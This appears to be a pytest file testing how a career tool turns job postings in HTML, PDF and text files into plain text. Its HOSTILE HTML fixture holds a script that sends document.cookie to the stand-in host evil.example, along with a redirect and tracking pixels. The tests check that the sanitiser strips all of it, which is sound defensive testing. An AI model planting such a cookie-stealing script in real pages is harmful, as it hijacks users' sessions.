"""Posting text from HTML (sanitised), PDF and text files."""

from __future__ import annotations

from pathlib import Path

import pytest

from careerdesk.core.kernel.errors import UserError
from careerdesk.core.postings.text import (
    clipboard_text,
    html_to_text,
    looks_like_html,
    read_posting_file,
)
from tests.core.postings.pdf import write_text_pdf

HOSTILE = """<!DOCTYPE html><html><head><title>Data Analyst - Acme</title>
<style>body{background:url(https://tracker.example/bg.png)}</style>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<link rel="stylesheet" href="https://cdn.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
</head><body onload="alert(1)">
<noscript><img src="https://tracker.example/pixel.gif">Enable JS</noscript>
<h1>Data Analyst</h1><p>Company: Acme&nbsp;Ltd &amp; Sons</p>
<iframe src="https://ads.example/frame"><p>frame text</p></iframe>
<ul><li>SQL</li><li>Python <b>3</b></li></ul>
<p>Line one<br>line two</p>
<svg><text>svg text</text></svg>
<template><p>hidden template</p></template>
<img src="https://tracker.example/a.gif" alt="tracking pixel">
<script type="text/plain">var x = "<p>not text</p>";</script>
<table><tr><td>Salary</td><td>£40,000</td></tr></table>
</body></html>"""


def test_html_keeps_text_drops_everything_active() -> None:
    text = html_to_text(HOSTILE)
    assert "Data Analyst" in text
    assert "Company: Acme Ltd & Sons" in text  # entities decoded, nbsp normalised
    assert "• SQL" in text and "• Python 3" in text
    assert "Line one\nline two" in text
    assert "Salary" in text and "£40,000" in text
    for gone in (
        "document.cookie",
        "evil.example",
        "tracker.example",
        "background",
        "Enable JS",
        "frame text",
        "svg text",
        "hidden template",
        "not text",
        "alert(1)",
        "tracking pixel",
        "http",
    ):
        assert gone not in text, gone
    assert "Data Analyst - Acme" not in text  # the <head> title is not body text


def test_html_without_body_text_falls_back_to_title() -> None:
    assert html_to_text("<html><head><title>Engineer at Foo</title></head></html>") == (
        "Engineer at Foo"
    )


def test_html_parser_never_fetches(monkeypatch: pytest.MonkeyPatch) -> None:
    import socket
    import urllib.request

    def refuse(*_a: object, **_k: object) -> None:
        raise AssertionError("network access while reading HTML")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    assert "Data Analyst" in html_to_text(HOSTILE)


def test_unclosed_and_broken_markup() -> None:
    assert html_to_text("<p>Open <b>bold <script>x()") == "Open bold"
    assert html_to_text("<div>a</span></p>b") == "a\n\nb"


def test_clipboard_prefers_richer_html_and_spots_markup() -> None:
    assert clipboard_text("Data Analyst", "<h1>Data Analyst</h1><p>Acme, Leeds</p>") == (
        "Data Analyst\n\nAcme, Leeds"
    )
    assert clipboard_text("Plain posting text", "") == "Plain posting text"
    assert looks_like_html("<div><p>x</p></div>")
    assert not looks_like_html("Salary < 50k and > 40k")
    assert clipboard_text("<ul><li>SQL</li></ul>") == "• SQL"


def test_read_files(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes("Data Analyst\r\nCafé Ltd\r\n".encode("utf-8-sig"))
    assert read_posting_file(tmp_path / "a.txt") == "Data Analyst\nCafé Ltd"
    (tmp_path / "b.txt").write_bytes("Zürich".encode("cp1252"))
    assert read_posting_file(tmp_path / "b.txt") == "Zürich"
    (tmp_path / "c.html").write_text(HOSTILE, encoding="utf-8")
    assert "document.cookie" not in read_posting_file(tmp_path / "c.html")
    pdf = write_text_pdf(
        tmp_path / "d.pdf", ["Data Engineer\nCompany: Globex", "Requirements\n- SQL (PostgreSQL)"]
    )
    text = read_posting_file(pdf)
    assert "Data Engineer" in text and "Company: Globex" in text and "SQL (PostgreSQL)" in text


def test_unreadable_files_are_user_errors(tmp_path: Path) -> None:
    with pytest.raises(UserError, match=r"\.txt, \.html and \.pdf"):
        read_posting_file(tmp_path / "posting.docx")
    with pytest.raises(UserError, match="could not be opened"):
        read_posting_file(tmp_path / "missing.txt")
    (tmp_path / "bad.pdf").write_bytes(b"%PDF-1.4 this is not really a pdf")
    with pytest.raises(UserError, match=r"could not be read as a PDF|no text layer"):
        read_posting_file(tmp_path / "bad.pdf")
    empty = write_text_pdf(tmp_path / "scan.pdf", [""])
    with pytest.raises(UserError, match="no text layer"):
        read_posting_file(empty)
